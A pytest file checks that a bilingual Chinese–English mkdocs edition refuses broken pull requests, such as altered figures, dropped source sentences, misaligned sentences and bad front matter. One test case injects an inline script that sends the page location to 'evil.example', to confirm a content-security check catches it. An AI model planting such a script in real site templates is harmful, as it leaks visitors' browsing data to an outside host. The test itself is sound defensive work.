"""End to end: the pull requests the edition must refuse fail `mkdocs build --strict`, naming the file.

Each breaks the tiny project (tests/fixtures/tiny/, the real mkdocs.yml's settings and checks) and
builds it in this process; the checks' own tests (test_check_*.py) cover their logic case by case.
"""

from __future__ import annotations

import pytest

from building import build, line_of, refused, replace_in


def test_the_unbroken_tiny_project_builds_without_a_warning(tiny_project):
    """Without this, every refusal below could be the fixture's own fault."""
    result = build(tiny_project)
    assert result.ok, result.output
    assert "WARNING" not in result.output and "ERROR" not in result.output, result.output
    for page in ("index.html", "overview/index.html", "en/overview/index.html", "en/about/index.html"):
        assert (result.site / page).is_file(), page
    # the generated parts are there: key figures, the corrections list, the downloads, the search index
    home = (result.site / "en" / "index.html").read_text(encoding="utf-8")
    assert "89.5%" in home and "edition-chart" in home
    assert "截止〔截至〕目前" in (result.site / "about" / "index.html").read_text(encoding="utf-8")
    assert (result.site / "data" / "figures.csv").is_file() and (result.site / "en" / "search" / "meta.json").is_file()


def test_deleting_an_english_page_fails_naming_it(tiny_project):
    (tiny_project / "docs" / "overview.en.md").unlink()
    output = refused(tiny_project)
    assert "[twins] docs/overview.zh.md:1:" in output
    assert "docs/overview.en.md does not exist" in output


# Each: (file, text, replaced by, a line whose number ``{line}`` stands for, what the output must say).
REFUSALS = {
    "a figure changed in the English": (
        "docs/overview.en.md",
        "85 of the region's 95",
        "85 of the region's 59",
        "{#ov-2}",
        ["[numbers] docs/overview.en.md:{line}:", "lacks the figure 95", "has the figure 59"],
    ),
    "a source sentence dropped": (
        "docs/overview.zh.md",
        "多次在全国会议上作典型经验发言；",
        "",
        None,
        ["[source-text] docs/overview.zh.md:", "多次在全国会议上作典型经验发言"],
    ),
    # The source's slip is kept: "correcting" it silently is a change of the source's words.
    "the Chinese reworded": (
        "docs/overview.zh.md",
        "截止〔截至〕目前",
        "截至目前",
        None,
        ["[source-text] docs/overview.zh.md:"],
    ),
    "front matter that does not parse": (
        "docs/about.en.md",
        "title: About this edition",
        "title: About: this: edition",
        None,
        ["[front-matter] docs/about.en.md:3: front matter does not parse"],
    ),
    "a paragraph id missing from one language": (
        "docs/overview.en.md",
        "{#ov-3}",
        "",
        None,
        ["[paragraph-ids] docs/overview.en.md:", "'#ov-3'"],
    ),
    # The sentence alignment (docs/data/alignment.yml): a sentence no group takes in, and groups
    # that add up but pair the wrong sentences.
    "an English sentence no group aligns": (
        "docs/overview.en.md",
        "and have achieved clear results.",
        "and have achieved clear results. The reform was praised by everyone.",
        "and have achieved clear results.",
        [
            "[alignment] docs/overview.en.md:{line}: English sentence 3 of '#ov-1', “The reform was praised by everyone.”, is aligned with no sentence of its twin",
            "write 'ov-1: 1-3' in docs/data/alignment.yml",
        ],
    ),
    "a misaligned paragraph": (
        "docs/data/alignment.yml",
        "ov-2: 1-2 1-1 1-1 1-1",
        "ov-2: 2-1 1-3 1-1",
        None,
        ["[alignment] docs/overview.en.md:", "paragraph '#ov-2' is misaligned at group 1 (2-1", "write 'ov-2: "],
    ),
    # The interface strings (docs/data/strings.<lang>.yml) are checked in every build too.
    "a string that loses its placeholder": (
        "docs/data/strings.en.yml",
        "cite_label: Cite paragraph {id}",
        "cite_label: Cite this paragraph",
        "cite_label:",
        ["[strings] docs/data/strings.en.yml:{line}:", "'page.cite_label'"],
    ),
    # What no check of docs/ sees (a template in overrides/): the built pages are checked too.
    "a template that adds an inline script": (
        "overrides/main.html",
        "{% block scripts %}\n",
        "{% block scripts %}\n  <script>fetch('https://evil.example/?' + location)</script>\n",
        None,
        ["[csp] site/en/overview/index.html:1: the built page has an inline script the theme does not write"],
    ),
}


@pytest.mark.parametrize("case", REFUSALS, ids=list(REFUSALS))
def test_a_broken_file_fails_naming_file_and_line(tiny_project, case):
    path, old, new, marker, expected = REFUSALS[case]
    replace_in(tiny_project / path, old, new)
    output = refused(tiny_project)
    line = str(line_of(tiny_project / path, marker)) if marker else ""
    for phrase in expected:
        assert phrase.replace("{line}", line) in output, f"{phrase!r} not in:\n{output}"
